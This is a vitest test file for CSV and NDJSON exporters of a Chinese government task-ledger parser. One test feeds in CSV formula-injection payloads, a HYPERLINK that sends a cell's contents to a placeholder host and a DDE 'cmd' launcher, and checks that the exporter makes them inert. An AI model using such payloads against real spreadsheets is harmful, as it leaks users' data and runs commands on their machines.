import { parse } from "csv-parse/sync";
import { describe, expect, it } from "vitest";
import { toCsv, inert } from "../../src/exporters/csv.js";
import { toNdjson } from "../../src/exporters/ndjson.js";
import { parseFile, parseText } from "../../src/ledger.js";
import { checkCsv, checkNdjson, QUICK_FIXTURES } from "./view-checks.js";

/** The CSV and NDJSON views: one leaf task per row or line, read back with csv-parse and JSON.parse. */

describe("CSV", () => {
  it.each(QUICK_FIXTURES)("%s: reads back as one row per leaf, the effective owners and deadline, the ancestors by level", async (file) => {
    checkCsv(await parseFile(file));
  });

  it("keeps Chinese as UTF-8 and names inherited and collective owners", async () => {
    const ledger = await parseFile("fixtures/chaoyang-2021-ledger.txt");
    const rows: Record<string, string>[] = parse(toCsv(ledger), { bom: true, columns: true });
    const row = rows.find((r) => r.id === "1.1.2")!;
    expect(row.ancestor1).toBe("进一步做好政府信息公开条例的实施");
    expect(row.ancestor2).toBe("做好法定公开内容的日常维护");
    expect(row.lead).toBe("区政数局");
    expect(row.collective).toBe("各相关单位");
    expect(row.deadline).toBe("长期常态化");
    expect(row.kind).toBe("ongoing");
  });

  it("marks inherited owners and deadlines with where they come from", async () => {
    const ledger = await parseText("一、总体任务（区政府办牵头，2021年12月底前）\n（一）整理目录\n（二）更新专栏\n", { path: "inherit.txt" });
    const rows: Record<string, string>[] = parse(toCsv(ledger), { bom: true, columns: true });
    expect(rows.map((r) => [r.id, r.lead, r.ownersInherited, r.ownersFrom, r.due, r.deadlineInherited, r.deadlineFrom])).toEqual([
      ["1.1", "区政府办", "true", "1", "2021-12-31", "true", "1"],
      ["1.2", "区政府办", "true", "1", "2021-12-31", "true", "1"],
    ]);
  });

  it("never lets a cell become an Excel formula", async () => {
    const ledger = await parseText('一、=HYPERLINK("http://x.example/?"&A1,"点击")\n二、@SUM(1+1)\n三、-2+3\n四、+cmd|\' /C calc\'!A0\n', { path: "hostile.txt" });
    const rows: Record<string, string>[] = parse(toCsv(ledger), { bom: true, columns: true });
    expect(rows).toHaveLength(4);
    for (const row of rows) for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@]/);
    expect(rows[0].title).toBe(`'=HYPERLINK("http://x.example/?"&A1,"点击")`);
  });
});

describe("NDJSON", () => {
  it.each(QUICK_FIXTURES)("%s: one JSON object per leaf and line, the CSV's fields", async (file) => {
    checkNdjson(await parseFile(file));
  });
});

describe("flat rows, any text", () => {
  it("read back as written (CSV: formula starts made inert), whatever the titles and units hold", async () => {
    const { default: fc } = await import("fast-check");
    const { syntheticLedger } = await import("./synthetic-ledger.js");
    const text = fc.oneof(fc.string({ unit: "grapheme", maxLength: 40 }), fc.constantFrom('"引号"', "a,b", "line\nbreak", "cr\rlf\r\n", "=1+1", "\uFEFF开头", "  空格  "));
    fc.assert(
      fc.property(fc.array(text, { minLength: 1, maxLength: 5 }), text, (titles, unit) => {
        const { ledger } = syntheticLedger(titles, unit, null);
        const rows: Record<string, string>[] = parse(toCsv(ledger), { bom: true, columns: true, record_delimiter: ["\r\n", "\n", "\r"] });
        expect(rows.map((r) => r.title)).toEqual(titles.map(inert));
        expect(rows.map((r) => r.lead)).toEqual(titles.map(() => inert(unit)));
        const lines = toNdjson(ledger).split("\n").slice(0, -1).map((l) => JSON.parse(l));
        expect(lines.map((l) => l.title)).toEqual(titles);
        expect(lines.map((l) => l.lead)).toEqual(titles.map(() => [unit]));
      }),
      { numRuns: 300 },
    );
  });
});
